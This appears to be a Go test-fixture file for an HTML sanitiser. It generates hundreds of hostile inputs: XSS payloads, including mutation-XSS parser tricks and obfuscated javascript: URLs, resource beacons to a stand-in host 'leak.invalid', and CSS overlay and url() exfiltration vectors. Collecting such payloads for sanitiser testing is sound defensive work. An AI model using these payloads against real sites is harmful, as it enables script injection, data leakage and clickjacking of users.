package sanitise

import (
	"strings"
)

// hostile is our own collection: what should run, what should load, what should leave its box, each in
// the spellings that have got past somebody.
func hostile() []string {
	var all []string
	for _, s := range scripts {
		all = append(all, s, strings.ToUpper(s[:min(len(s), 4)])+s[min(len(s), 4):], around(s))
		all = append(all, strings.ReplaceAll(s, "on", "\x00on"), strings.ReplaceAll(s, " on", "/on"), strings.ReplaceAll(s, " on", "\n\ton"), strings.ReplaceAll(s, "<s", "<\x00s"))
		all = append(all, strings.Repeat("<div>", 300)+s, "<table>"+s, "<!--"+s+"--><!-->"+s, "<noscript>"+s+"</noscript>"+s, "<svg><desc>"+s, "<math><mtext>"+s, "<select>"+s)
	}
	for _, a := range addresses {
		for _, l := range loading {
			all = append(all, strings.ReplaceAll(l, "ADDR", a))
		}
	}
	for _, l := range styles {
		all = append(all, "<p style='"+strings.ReplaceAll(l, "'", "&#39;")+"'>styled</p>", "<style>p{"+l+"} p:hover{"+l+"}</style><p>styled</p>", "<body style='"+l+"'><table style='"+l+"'><td style='"+l+"'>styled")
	}
	for _, s := range sheets {
		all = append(all, "<style>"+s+"</style><p class=a id=b>styled</p>", "<style><!--"+s+"--></style><svg><style>"+s+"</style></svg><p class=a>styled")
	}
	for _, l := range boxes {
		all = append(all, l, "<table><tr><td>"+l, "<b><i><u>"+l)
	}
	return all
}

func around(s string) string {
	return `<div title="` + s + `" id='` + strings.ReplaceAll(s, "'", "") + `'>` + s + `</title></textarea></style></xmp>` + s
}

var scripts = []string{
	`<script>hit()</script>`, `<script src=/leak.js></script>`, `<script/x>hit()</script/x>`, `<scr<script>ipt>hit()</scr</script>ipt>`, `<img src=x onerror=hit()>`, `<img src=/leak.png onload=hit()>`,
	`<svg onload=hit()>`, `<svg><script>hit()</script></svg>`, `<svg><animate onbegin=hit() attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/></svg>`,
	`<body onload=hit()>`, `<body onpageshow=hit() onhashchange=hit()>`, `<details open ontoggle=hit()>x</details>`, `<input autofocus onfocus=hit()>`, `<p tabindex=1 autofocus onfocus=hit()>x</p>`, `<marquee onstart=hit()>x</marquee>`,
	`<video src=/leak onerror=hit()></video>`, `<video><source src=/leak onerror=hit()></video>`, `<audio src=/leak onerror=hit()>`, `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`, `<iframe src="javascript:parent.hit()"></iframe>`,
	`<a href="javascript:hit()">x</a>`, `<a href=" &#1; javascript:hit()">x</a>`, `<a href="java&Tab;script:hit()">x</a>`, `<a href="javascript&colon;hit()">x</a>`, `<a href="&#x6a;avascript:hit()">x</a>`, `<a href="vbscript:hit()">x</a>`, `<a href="data:text/html,<script>hit()</script>">x</a>`,
	`<form action="javascript:hit()"><button>x</button><input type=submit></form>`, `<button formaction="javascript:hit()">x</button>`, `<math href="javascript:hit()">x</math>`, `<math><a xlink:href="javascript:hit()">x`, `<object data="javascript:hit()"></object>`, `<embed src="javascript:hit()">`,
	`<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4="></object>`, `<p onclick=hit() onmouseover=hit() onmouseenter=hit() onpointermove=hit()>x</p>`, `<p style="animation-name:x" onanimationstart=hit()>x</p><style>@keyframes x{}</style>`,
	`<template><script>hit()</script></template>`, `<div><template shadowrootmode=open><img src=x onerror=hit()><style>:host{position:fixed;inset:0}</style></template></div>`, `<xmp><p title="</xmp><img src=x onerror=hit()>">`,
	`<noscript><p title="</noscript><img src=x onerror=hit()>">`, `<noembed><p title="</noembed><img src=x onerror=hit()>">`, `<noframes><p title="</noframes><img src=x onerror=hit()>">`, `<title><p title="</title><img src=x onerror=hit()>">`, `<textarea><p title="</textarea><img src=x onerror=hit()>">`,
	`<iframe><p title="</iframe><img src=x onerror=hit()>">`, `<style><p title="</style><img src=x onerror=hit()>">`, `<plaintext><img src=x onerror=hit()>`, `<svg></p><style><a id="</style><img src=1 onerror=hit()>">`, `<math></p><style><!--</style><img src/onerror=hit()>--></style></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>`, `<svg><foreignObject><p><svg><style><a title="</style><img src onerror=hit()>">`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></annotation-xml></math>`, `<svg><title><style><img title="</style><img src onerror=hit()>"></title></svg>`, `<select><style></select><img src onerror=hit()></style>`, `<option><style></option></select><img src=x onerror=hit()></style>`,
	`<table><svg><tr><style><img title="</style><img src onerror=hit()>">`, `<![CDATA[<img src=x onerror=hit()>]]>`, `<svg><![CDATA[><img src=x onerror=hit()>]]>`, `<!--><img src=x onerror=hit()>-->`, `<!--!--!><img src=x onerror=hit()>-->`, `<!-- --!><img src=x onerror=hit()> -->`, `<?xml ><img src=x onerror=hit()>?>`,
	`<!DOCTYPE "><img src=x onerror=hit()>">`, `</ x><img src=x onerror=hit()>`, `<a href="x" title='"><img src=x onerror=hit()>'>y</a>`, "<p title=`><img src=x onerror=hit()>`>x</p>", `&lt;img src=x onerror=hit()&gt;`, `&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;`, `+ADw-script+AD4-hit()+ADw-/script+AD4-`,
	`<img alt="<img src=x onerror=hit()>" title='"onerror=hit()'>`, `<p id="x" id="y" style="x" style="background:url(/leak)">x</p>`, `<x-y is=z onclick=hit()>x</x-y>`, `<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle=hit()>y</div>`, `<button commandfor=d command=show-modal>x</button><dialog id=d onfocus=hit()>y</dialog>`,
	`<meta http-equiv=refresh content="0;url=/leak">`, `<meta http-equiv=Set-Cookie content=x>`, `<base href="https://leak.invalid/">`, `<base target=_self><a href="javascript:hit()">x</a>`, `<frameset onload=hit()><frame src="javascript:hit()">`, `<area href="javascript:hit()" shape=default><map name=m><area href="javascript:hit()"></map>`,
	`<link rel=stylesheet href="data:text/css,*{position:fixed}">`, `<link rel=preload as=image href=/leak>`, `<link rel=dns-prefetch href=//leak.invalid>`, `<isindex type=image src=/leak onerror=hit()>`, `<image src=/leak onerror=hit()>`, `<bgsound src=/leak>`, `<keygen autofocus onfocus=hit()>`, `<listing>&lt;img src=x onerror=hit()&gt;</listing>`,
	`<a href="http://x.example" onclick="hit()" ping="/leak" attributionsrc="/leak">x</a>`, `<script type=speculationrules>{"prefetch":[{"urls":["/leak"]}]}</script>`, `<img name=getElementById id=body><form name=cookie><input name=querySelectorAll></form>`, `<p contenteditable oninput=hit() accesskey=x>x</p>`, `<fencedframe></fencedframe><portal src=/leak>`,
}

var addresses = []string{"http://leak.invalid/a.png", "HTTPS://leak.invalid/a", "//leak.invalid/a", `/\leak.invalid/a`, `\\leak.invalid\a`, "/leak", "leak.png", "./leak", "?leak", " \thttp://leak.invalid/a ", "ht&#10;tp://leak.invalid/a", "h&Tab;ttp://leak.invalid",
	"&#104;ttp://leak.invalid/a", "http:leak.invalid", "http:/leak.invalid/a", "ftp://leak.invalid/a", "blob:http://leak.invalid/a", "filesystem:http://leak.invalid/a", "data:image/svg+xml,<svg/onload=hit()>", "data:text/css,@import'/leak'", "data:,x", "file:///leak", "cid:unknown@leak", "mid:x@leak", "view-source:/leak", "wss://leak.invalid"}

var loading = []string{`<img src="ADDR">`, `<img srcset="ADDR 1x, ADDR 2x" alt=x>`, `<picture><source srcset="ADDR"><img alt=x></picture>`, `<table background="ADDR"><td background="ADDR">x</table>`, `<body background="ADDR">`, `<video poster="ADDR" src="ADDR"></video>`, `<input type=image src="ADDR">`,
	`<iframe src="ADDR"></iframe>`, `<object data="ADDR"><param name=movie value="ADDR"></object>`, `<embed src="ADDR">`, `<link rel=stylesheet href="ADDR">`, `<link rel=icon href="ADDR">`, `<svg><image href="ADDR" xlink:href="ADDR"/><use href="ADDR"/><feImage href="ADDR"/></svg>`, `<p style="background:url(ADDR)">x</p>`,
	`<p style="background-image:url('ADDR')">x</p>`, `<style>p{background:url("ADDR")}@import "ADDR";</style><style>@import url(ADDR);</style><p>x</p>`, `<audio src="ADDR" autoplay></audio><track src="ADDR">`, `<img dynsrc="ADDR" lowsrc="ADDR" longdesc="ADDR" usemap="ADDR">`, `<html manifest="ADDR"><head profile="ADDR">`, `<blockquote cite="ADDR">x</blockquote>`,
	`<script src="ADDR"></script>`, `<frame src="ADDR">`, `<applet code="ADDR" archive="ADDR"></applet>`, `<base href="ADDR"><img src=leak>`, `<meta http-equiv=refresh content="0;url=ADDR">`, `<template shadowrootmode=open><img src="ADDR"></template>`}

var styles = func() []string {
	all := []string{`position:fixed;inset:0;z-index:2147483647;background:red`, `position:absolute;top:0;left:0;width:100vw;height:100vh;background:red`, `position:sticky;top:0;height:1000px`, `POSITION : FIXED;top:0;left:0;width:100%;height:100%`, `p\6fsition:fixed;inset:0`, `position:/**/fixed;inset:0`,
		`transform:scale(99)`, `transform:translate(0,200px);background:red;height:300px`, `scale:50`, `translate:0 500px`, `rotate:90deg;width:3000px`, `zoom:20`, `zoom:50;position:relative`, `margin:-500px`, `margin-top:-9999px;height:20000px;background:red`, `margin:calc(-1 * 500px)`, `margin-bottom:-300px;height:400px;background:red`,
		`box-shadow:0 0 0 9999px red`, `box-shadow:0 500px 10px 500px red`, `outline:9999px solid red`, `outline:red solid 500px;outline-offset:100px`, `border:9999px solid red`, `border-width:5000px;border-style:solid`, `width:99999px;height:99999px;background:red`, `min-height:9999999px`, `height:1e9px`, `padding:9999px`, `padding-top:9999%`,
		`font-size:99999px`, `font-size:999em`, `line-height:9999`, `letter-spacing:9999px`, `text-indent:-9999px`, `text-indent:99999px`, `word-spacing:-999px`, `vertical-align:-9999px`, `text-shadow:0 300px red`, `filter:drop-shadow(0 300px red)`, `-webkit-box-reflect:below 100px`, `float:left;width:3000px;height:3000px;background:red`, `display:contents`,
		`contain:none;position:fixed;inset:0`, `all:unset;position:fixed;inset:0`, `inset:0;position:var(--x,fixed)`, `--x:fixed;position:var(--x)`, `animation:x 1s infinite`, `transition:all 99s`, `top:0;bottom:0;left:0;right:0;position:fixed!important`, `offset-path:ray(45deg)`, `clip-path:none;perspective:1px`, `will-change:transform;mix-blend-mode:difference`,
		`cursor:none`, `pointer-events:all;user-select:none`, `writing-mode:vertical-rl;height:2000px`, `columns:100 10px`, `direction:rtl;unicode-bidi:bidi-override`, `position:fixed;;inset:0}*{position:fixed`, `}p{position:fixed;inset:0`, `color:red;</style><img src=x onerror=hit()>`, `behavior:url(#x);-moz-binding:url(/leak)`,
		`width:expression(hit())`, `background:url(javascript:hit())`, `anchor-name:--a;position-anchor:--a;position:fixed`, `overlay:auto;top:0;position:fixed`, `view-transition-name:x;container:x/size`, `grid-area:1/1/999/999;display:grid;grid-template-rows:repeat(999,999px)`, `shape-outside:url(/leak)`, `position-area:top;position:absolute`}
	for _, prop := range []string{"background", "background-image", "list-style-image", "list-style", "cursor", "content", "border-image", "border-image-source", "mask", "mask-image", "-webkit-mask-image", "filter", "shape-outside", "offset-path", "clip-path", "src", "--x"} {
		for _, u := range []string{`url(/leak)`, `url("//leak.invalid/a")`, `url('http://leak.invalid/a')`, `URL( http://leak.invalid/a )`, `u\72l(/leak)`, `\75 rl(/leak)`, `ur/**/l(/leak)`, `image-set("/leak" 1x)`, `-webkit-image-set(url(/leak) 1x)`, `cross-fade(url(/leak),url(/leak),50%)`, `-webkit-cross-fade(url(/leak),url(/leak),50%)`,
			`image("/leak")`, `src("/leak")`, `var(--y,url(/leak))`, `red url(/leak), url(//leak.invalid)`, `linear-gradient(red,blue),url(/leak)`, `url(data:image/svg+xml,<svg/>)`, `url("cid:x') url(/leak`, `url(http://leak.invalid`, `#fff url( "/leak" ) no-repeat fixed`, `element(#x)`, `attr(title type(<url>))`, `paint(x)`} {
			all = append(all, prop+":"+u)
		}
	}
	return all
}()

var sheets = []string{`@import url(/leak);`, `@import "/leak";`, `@import'//leak.invalid';p{}`, `@\69mport "/leak";`, `@font-face{font-family:x;src:url(/leak)}p{font-family:x}`, `.a{background:url(/leak)}`, `.a:hover{background:url(/leak)}`, `#b:target{background:url(/leak)}`, `@media screen{.a{background:url(/leak);position:fixed;inset:0}}`,
	`@supports(display:block){.a{position:fixed;inset:0}}`, `.a{&{position:fixed;inset:0}}`, `.a{color:red;&:hover{background:url(/leak)}}`, `*{position:fixed;inset:0}`, `:root{--x:url(/leak)}.a{background:var(--x)}`, `body>*{position:fixed!important;inset:0!important}`, `.sentinel{display:none!important}`, `#sentinel,p{visibility:hidden}`, `@namespace svg url(/leak);`,
	`@page{background:url(/leak)}`, `@keyframes x{from{background:url(/leak)}}.a{animation:x 1s infinite}`, `@layer x{.a{position:fixed;inset:0}}`, `@property --x{syntax:"<url>";inherits:true;initial-value:url(/leak)}`, `.a::before{content:url(/leak)}`, `.a::after{content:"";position:fixed;inset:0;background:red}`, `@scope(body){p{position:fixed;inset:0}}`,
	`.a[title^="x"]{background:url(/leak)}`, `</p>.a{color:red}`, `.a{color:red`, `{}{}{}.a{position:fixed}`, `/*.a{}`, `.a{background:"url(/leak)"}`, `.a{"};.a{position:fixed;inset:0}`, `@charset "utf-7";.a{position:fixed}`, `.a{position:fixed;inset:0}<!-- --> .a{zoom:9}`, `@import url("/leak") layer(x) supports(display:block) screen;`, `@container (width>0){.a{position:fixed;inset:0}}`}

var boxes = []string{`</div></div></div></div></body></html>x`, `<table><tr><td>`, `<table><tbody><tr>`, `<b><i><u><s><font color=red size=7>`, `<a href="https://x.example">`, `<center>`, `<bdo dir=rtl>x`, `<pre>`, `<ul><li><ol><li>`, `<h1>`, `<select><option>`, `<textarea>`, `<button>`, `<form>`, `<label>`, `<dialog open>x`, `<details>`, `<marquee>x`, `<blink>`,
	`<div class=overlay>x</div>`, `<div id=overlay>x</div>`, `<a name=overlay id=overlay>x</a>`, `<div popover=manual class="overlay show">x</div>`, `<img width=99999 height=99999 alt=x>`, `<img width=100% height=999999 alt=x style="width:9999px;height:9999px">`, `<table width=99999 height=99999 cellspacing=9999 cellpadding=9999 border=9999><td>x`, `<td rowspan=65534 colspan=9999>x`,
	`<table><td height=99999 width=99999 rowspan=65534 colspan=1000>x`, `<hr size=9999 width=9999>`, `<font size=+99><big><big><big><big><big><big><big><big><big><big><big><big><big><big>x`, `<pre width=9999>` + strings.Repeat("x", 5000), strings.Repeat("&nbsp;", 2000), strings.Repeat("<big>", 90) + "x", strings.Repeat("<div style='font-size:3em'>", 30) + "x",
	strings.Repeat("<blockquote>", 90) + "x", strings.Repeat("<div style='padding:0 300px'>", 50) + "x", strings.Repeat("<table border=1 cellpadding=30><td>", 30) + "x", "\u202e reversed \u2066 isolate", strings.Repeat("Z\u0335\u0321\u0327\u0342\u0352", 50) + strings.Repeat("\u0300", 500), `<img hspace=9999 vspace=9999 border=9999 alt=x>`, `<p align=right dir=rtl>x`,
	`<body style="margin:-100px;position:fixed" topmargin=-100 leftmargin=-99>x`, `<html style="position:fixed;transform:scale(9)" class=overlay><body class=overlay id=overlay>x`, `<sup><sup><sup><sup>` + strings.Repeat("<sup>", 80) + "x", strings.Repeat("<sub>", 90) + "x", `<layer>x<ilayer>`, `<spacer type=block height=9999 width=9999>`, `<multicol cols=99>x`, `<fieldset><legend>x`,
	`<div align=right style="float:right"><div style="float:left;clear:both">x`, `<div style="display:inline"></div><div style="float:left;height:1500px;width:100px;background:red">x`, `<div style="display:table-cell;vertical-align:bottom">x<caption><tr>`, `<table style="float:right"><caption align=bottom>x</table>`, `<ruby><rt><rp>x`, "\ufeff<p>x", `<frameset rows=*><frame src=/leak>`, `<p hidden inert>x`,
}
